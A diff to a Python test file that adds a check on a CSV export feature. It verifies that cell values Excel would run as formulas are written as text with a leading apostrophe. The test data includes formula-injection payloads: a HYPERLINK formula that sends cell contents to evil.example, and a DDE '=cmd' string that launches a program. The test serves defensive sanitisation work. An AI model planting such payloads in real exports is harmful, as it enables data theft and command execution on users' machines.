@@ -69,7 +69,7 @@ async def test_bookings_with_personal_data(db, sample_content):
     await seed(db)
     _text, rows = await exported(db, sample_content, "bookings", personal=True)
     assert rows[0][-3:] == ["Nome", "Telefono", "ID Telegram"]
-    assert rows[1][-3:] == ["Amal Haddad", "+393331234567", str(TENANT)]
+    assert rows[1][-3:] == ["Amal Haddad", "'+393331234567", str(TENANT)]  # a leading + could start a formula
 
 
 async def test_tickets_quote_what_needs_quoting_and_use_the_decimal_comma(db, sample_content):
@@ -90,6 +90,24 @@ async def test_feedback_never_names_anyone(db, sample_content):
     await seed(db)
     _text, rows = await exported(db, sample_content, "feedback", personal=True)
     assert rows[1] == ["05/03/2027", "Voto", "Portineria sociale Omero", rows[1][3], "4", "Ottimo; grazie", ""]
+
+
+async def test_cells_that_excel_would_run_as_formulas_are_written_as_text(db, sample_content):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+39 333", "-1+1", "@SUM(A1)", "\tTab", "\rCR"]
+    async with db.write() as session:
+        for index, comment in enumerate(formulas):
+            session.add(Feedback(id=new_id(), kind="complaint", space_id="omero", service_id="", user_id=None,
+                                 stars=None, comment=comment, day=date(2027, 3, 6 + index)))
+        created = datetime(2027, 3, 10, 9, tzinfo=ROME)
+        session.add(Ticket(code="QC-2027-000009", status="new", category_id="lift", urgency="normal", ack_hours=4,
+                           estate_id="omero-mompiani", description="=cmd|' /C calc'!A0", tenant_name="@Amal",
+                           tenant_contact="+393331234567", reporter_id=None, created_at=created, updated_at=created,
+                           affected=1, escalations=0))
+    _text, rows = await exported(db, sample_content, "feedback", personal=True)
+    assert sorted(row[5] for row in rows[1:]) == sorted("'" + formula for formula in formulas)
+    _text, rows = await exported(db, sample_content, "tickets", personal=True)
+    assert rows[1][-5:] == ["", "'=cmd|' /C calc'!A0", "", "'@Amal", "'+393331234567"]
+    assert export.cell("Ottimo") == "Ottimo" and export.cell("") == ""
 
 
 async def test_an_unknown_export_is_refused(db, sample_content):
